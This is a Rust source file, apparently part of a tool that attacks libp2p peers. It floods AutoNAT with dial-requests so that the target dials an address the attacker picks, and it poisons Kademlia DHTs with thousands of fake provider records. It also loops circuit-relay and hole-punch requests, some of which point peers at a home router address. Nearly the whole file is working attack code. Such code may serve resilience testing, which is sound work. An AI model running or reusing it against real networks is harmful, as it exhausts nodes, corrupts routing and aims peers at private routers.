//! What strangers ask for that others would have to do for them.

use std::io;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use futures::{AsyncReadExt, AsyncWriteExt};
use libp2p::core::muxing::SubstreamBox;
use libp2p::multiaddr::Protocol;
use libp2p::{Multiaddr, PeerId};
use tokio::task::JoinSet;

use super::stranger::{Blocks, Line, Stranger};
use super::{Attacker, SILENT_PORT, words};

const DIAL_REQUEST: &str = "/libp2p/autonat/2/dial-request";
/// Questions of one connection at a time.
const AT_ONCE: usize = 10;
const DHTS: [&str; 2] = ["/ipfs/kad/1.0.0", "/ipfs/lan/kad/1.0.0"];
const HOP: &str = "/libp2p/circuit/relay/0.2.0/hop";
const STOP: &str = "/libp2p/circuit/relay/0.2.0/stop";
const PUNCH: &str = "/libp2p/dcutr";
/// A home network's router.
const AT_HOME: &str = "/ip4/192.168.1.1/tcp/80";
/// An answer that takes longer is not waited for.
const PATIENCE: Duration = Duration::from_secs(20);
/// Between two questions: one who asks whatever is refused would keep this computer busy instead.
const SOON: Duration = Duration::from_millis(5);

impl Attacker {
    pub(super) async fn have_doors_tried(&self) -> io::Result<()> {
        let line = Stranger::new(self.from)
            .connect(self.way(), Blocks::Taken)
            .await?;
        // Where it is seen: that asks for no proof that it means it.
        let door = Multiaddr::from(self.from).with(Protocol::Tcp(SILENT_PORT));
        let request = words::dial_request(&door);
        let mut all: JoinSet<io::Result<()>> = JoinSet::new();
        for _ in 0..AT_ONCE {
            let (line, request) = (line.clone(), request.clone());
            let blows = Arc::clone(&self.blows);
            all.spawn(async move {
                loop {
                    let mut stream = line.open(DIAL_REQUEST).await?;
                    say(&mut stream, &request).await?;
                    blows.fetch_add(1, Ordering::Relaxed);
                    hear(stream).await;
                    tokio::time::sleep(SOON).await;
                }
            });
        }
        Self::until_one_ends(all).await
    }

    pub(super) async fn tell_the_dht(&self) -> io::Result<()> {
        let stranger = Stranger::new(self.from);
        let line = stranger.connect(self.way(), Blocks::Taken).await?;
        let door = Multiaddr::from(self.from).with(Protocol::Tcp(SILENT_PORT));
        let mut spoken = 0;
        for dht in DHTS {
            // The one may be spoken and not the other.
            let Ok(mut stream) = line.open(dht).await else {
                continue;
            };
            spoken += 1;
            for number in 0..1000 {
                let key = words::unknown((self.number * 1000 + number) as u64);
                let key = key.hash().to_bytes();
                let tell = words::add_provider(&key, stranger.peer(), &door);
                say(&mut stream, &tell).await?;
                say(&mut stream, &words::get_providers(&key)).await?;
                if stream.read(&mut [0; 4096]).await? == 0 {
                    break;
                }
                self.strike();
            }
        }
        if spoken == 0 {
            return Err(io::ErrorKind::Unsupported.into());
        }
        Ok(())
    }

    pub(super) async fn be_passed_on(&self) -> io::Result<()> {
        let line = Stranger::new(self.from)
            .connect(self.way(), Blocks::Taken)
            .await?;
        let home: Multiaddr = AT_HOME.parse().unwrap();
        loop {
            let asks = [
                (HOP, words::hop(None)),
                (HOP, words::hop(Some(PeerId::random()))),
                (STOP, words::stop(PeerId::random())),
                (PUNCH, words::punch(std::slice::from_ref(&home))),
            ];
            for (protocol, ask) in asks {
                self.ask(&line, protocol, &ask).await?;
                tokio::time::sleep(SOON).await;
            }
        }
    }

    /// What is not spoken there was asked for all the same.
    async fn ask(&self, line: &Line, protocol: &str, ask: &[u8]) -> io::Result<()> {
        self.strike();
        match line.open(protocol).await {
            Ok(mut stream) => {
                say(&mut stream, ask).await?;
                hear(stream).await;
                Ok(())
            }
            Err(error) if error.kind() == io::ErrorKind::Unsupported => Ok(()),
            Err(error) => Err(error),
        }
    }
}

async fn say(stream: &mut SubstreamBox, what: &[u8]) -> io::Result<()> {
    stream.write_all(what).await?;
    stream.flush().await
}

/// The beginning of the answer, if there is one.
async fn hear(mut stream: SubstreamBox) {
    let mut answer = [0; 1024];
    let _ = tokio::time::timeout(PATIENCE, stream.read(&mut answer)).await;
}
